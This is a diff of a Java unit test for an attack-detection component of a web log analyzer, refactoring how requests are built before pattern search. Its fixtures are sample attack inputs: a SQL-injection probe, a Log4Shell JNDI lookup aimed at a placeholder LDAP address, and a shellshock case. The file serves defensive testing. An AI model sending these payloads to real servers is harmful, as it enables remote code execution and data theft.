@@ -2,13 +2,19 @@ package io.apilog.security;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.apilog.agent.AgentFamilies;
+import io.apilog.line.Line;
+import io.apilog.line.LogFile;
 import io.apilog.request.AccessRecord;
 import io.apilog.request.Endpoint;
+import io.apilog.request.Request;
 import io.apilog.request.Rule;
+import io.apilog.request.Source;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -18,7 +24,7 @@ import org.junit.jupiter.params.provider.ValueSource;
 class AttackSearchTest {
     private static final Endpoint ITEMS = new Endpoint(3, "/items", Rule.ROUTE);
 
-    private final AttackSearch search = new AttackSearch();
+    private final AttackSearch search = new AttackSearch(new AgentFamilies());
     private final AccessRecord record = new AccessRecord();
 
     private List<String> patterns(long found) {
@@ -29,12 +35,18 @@ class AttackSearchTest {
                 .toList();
     }
 
+    private long found(Endpoint endpoint) {
+        Request request = new Request(new Source(0, "web", Map.of()), new LogFile("web", "access.log"), new Line(), record);
+        request.named(endpoint);
+        return search.in(request);
+    }
+
     private long answered(String target) {
         byte[] bytes = target.getBytes(StandardCharsets.UTF_8);
         record.clear();
         record.target.set(bytes, 0, bytes.length);
         record.status = 200;
-        return search.in(record, ITEMS);
+        return found(ITEMS);
     }
 
     @ParameterizedTest
@@ -88,7 +100,7 @@ class AttackSearchTest {
         byte[] bytes = "/items?a=information_schema.tables".getBytes(StandardCharsets.UTF_8);
         record.target.set(bytes, 0, bytes.length);
         record.status = 404;
-        assertThat(patterns(search.in(record, Endpoint.UNMATCHED))).containsExactly("sql_injection");
+        assertThat(patterns(found(Endpoint.UNMATCHED))).containsExactly("sql_injection");
     }
 
     @Test
@@ -98,9 +110,9 @@ class AttackSearchTest {
         record.userAgent.set(agent, 0, agent.length);
         byte[] referer = "https://example.com/?x=%24%7Bjndi%3Aldap%3A//192.0.2.1%7D".getBytes(StandardCharsets.UTF_8);
         record.referer.set(referer, 0, referer.length);
-        assertThat(patterns(search.in(record, ITEMS))).containsExactly("jndi", "shellshock");
+        assertThat(patterns(found(ITEMS))).containsExactly("jndi", "shellshock");
         record.referer.clear();
-        assertThat(patterns(search.in(record, ITEMS))).containsExactly("shellshock");
+        assertThat(patterns(found(ITEMS))).containsExactly("shellshock");
     }
 
     @Test
@@ -108,7 +120,7 @@ class AttackSearchTest {
         byte[] hello = {0x16, 3, 1, 2, 0, 1};
         record.malformed.set(hello, 0, hello.length);
         record.status = 400;
-        assertThat(patterns(search.in(record, Endpoint.MALFORMED))).containsExactly("tls_on_http");
+        assertThat(patterns(found(Endpoint.MALFORMED))).containsExactly("tls_on_http");
     }
 
     @Test
